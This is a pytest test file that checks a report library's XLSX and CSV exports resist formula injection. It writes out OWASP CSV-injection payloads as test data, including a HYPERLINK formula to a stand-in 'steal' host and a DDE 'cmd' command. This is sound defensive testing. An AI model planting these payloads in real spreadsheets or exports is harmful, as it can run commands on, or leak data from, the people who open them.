"""The shared outputs of a period report, attacked: formula injection through unit and
indicator names, and small-cell suppression undone by differencing with pooled figures."""

from __future__ import annotations

import csv
import html
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from evalkit.report import build_report

#: Names a data steward could receive in an export (OWASP "CSV Injection" payloads).
PAYLOADS = {
    "unit": '=HYPERLINK("http://x.example/steal","klik")',
    "unit2": "+1+1",
    "unit3": "@SUM(A1:A9)",
    "unit4": "-2+3",
    "indicator": "=cmd|' /C calc'!A0",
}
MIN_CELL = 8


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> tuple:
    """A report of a study whose unit and indicator names are formulas, written out."""
    import evalkit as ek

    study = ek.simulate(seed=11, employees=200, periods="2025Q1:2025Q4")
    units = study.units.copy()
    for i, key in enumerate(("unit", "unit2", "unit3", "unit4")):
        units.loc[i, "name"] = PAYLOADS[key]
    study.units = units
    indicators = study.indicators.copy()
    indicators.loc[0, "name"] = PAYLOADS["indicator"]
    study.indicators = indicators
    study.quarantine = pd.DataFrame(
        {
            "file": ["behaviour.csv"],
            "line": [7],
            "column": ["score"],
            "value": ["=cmd|' /C calc'!A0"],
            "reason": ["not a whole number between 1 and 5"],
        }
    )
    report = build_report(study, "2025Q4", language="en", min_cell=MIN_CELL)
    out = tmp_path_factory.mktemp("attacked")
    report.write_outputs(out)
    return study, report, out


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")}


def test_workbook_holds_no_formula_and_shows_the_names_as_text(attacked):
    _, _, out = attacked
    parts = _sheet_xml(out / "tables.xlsx")
    sheets = {n: x for n, x in parts.items() if n.startswith("xl/worksheets/")}
    assert sheets
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, name
    # the names are still there, as text (inline or shared strings), escaped by XML only
    strings = html.unescape(
        "".join(x for n, x in parts.items() if "sharedStrings" in n or n in sheets)
    )
    for key in ("unit", "unit2", "unit3"):
        assert f"<t>{PAYLOADS[key]}</t>" in strings
    # and marked as text with Excel's quote prefix, so that editing keeps them text
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(attacked):
    _, _, out = attacked
    files = [out / "quarantine.csv", out / "restricted" / "quarantine.csv"]
    files += sorted((out / "restricted").glob("*.csv"))
    seen = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
                    assert not re.match(r"-[^\d.]", cell), (path, cell)
                    seen += cell.startswith("'=")
    assert seen >= 2  # the quarantined value, shared and restricted
    shared = pd.read_csv(out / "quarantine.csv", dtype=str)
    assert shared.loc[0, "value"] == "'=cmd|' /C calc'!A0"


def test_negative_numbers_stay_numbers_in_the_csv_files(attacked):
    _, _, out = attacked
    gaps = pd.read_csv(out / "restricted" / "officers_citizen_vs_supervisor.csv")
    assert pd.api.types.is_float_dtype(gaps["gap"]) and (gaps["gap"] < 0).any()
